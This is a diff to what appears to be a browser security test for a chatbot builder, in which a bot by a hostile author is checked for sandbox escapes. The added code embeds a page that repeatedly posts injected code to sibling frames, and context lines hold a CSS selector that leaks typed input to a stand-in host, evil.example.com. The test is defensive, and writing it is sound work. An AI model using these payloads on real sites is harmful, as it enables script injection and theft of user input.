@@ -35,6 +35,11 @@ const OUTWARD = `
   input[value^='s'] { background: url(https://evil.example.com/typed) !important }
 `;
 
+/** A page that gives code of its own to every frame beside it, over and over. */
+const FLOOD = `<script>setInterval(() => {
+  for (let at = 0; at < parent.length; at += 1) parent[at].postMessage({ content: 'self.stolen = 1', args: [] }, '*');
+}, 5)</script>`;
+
 /** What it may ask other hosts for. */
 const FONTS = ['font', 'mine'].map((name) => `https://evil.example.com/${name}.woff2`);
 
@@ -113,7 +118,7 @@ describeInBrowser('a bot of a hostile author', () => {
       children: [{ text: type }],
     }));
     const flow = {
-      variables: { Name: null, Read: null },
+      variables: { Name: null, Read: null, Stolen: null },
       groups: {
         Start: [
           text({ type: 'p', children: addresses.map(link) }, ...odd),
@@ -132,7 +137,18 @@ describeInBrowser('a bot of a hostile author', () => {
               responseVariableMapping: [{ id: '1', variableId: 'vRead', bodyPath: 'statusCode' }],
             },
           },
-          say('Read {{Read}}, the end'),
+          { type: 'embed', content: { url: await siteWith(FLOOD) } },
+          {
+            type: 'Set variable',
+            options: {
+              variableId: 'vStolen',
+              isExecutedOnClient: true,
+              isCode: true,
+              expressionToEvaluate:
+                'await new Promise((go) => setTimeout(go, 200)); return typeof stolen',
+            },
+          },
+          say('Read {{Read}}, stolen {{Stolen}}'),
           ask('text input'),
         ],
       },
@@ -150,12 +166,12 @@ describeInBrowser('a bot of a hostile author', () => {
         outside: () => ({ contentType: 'text/css', body: '' }),
       },
     );
-    await page.getByText('Read 500, the end').waitFor();
+    await page.getByText('Read 500, stolen undefined').waitFor();
     await page.getByRole('textbox').fill(`<script>${CODE}</script>`);
     await page.keyboard.press('Enter');
     await page.locator('.bot-guest-bubble').getByText('<script>').waitFor();
     const links = await page.locator('.bot-log a').count();
-    expect([links, page.frames().length, page.url()]).toEqual([0, 1, `${app().url}/${publicId}`]);
+    expect([links, page.frames().length, page.url()]).toEqual([0, 2, `${app().url}/${publicId}`]);
     expect(await page.evaluate('[typeof hacked, "polluted" in {}]')).toEqual(['undefined', false]);
   });
 
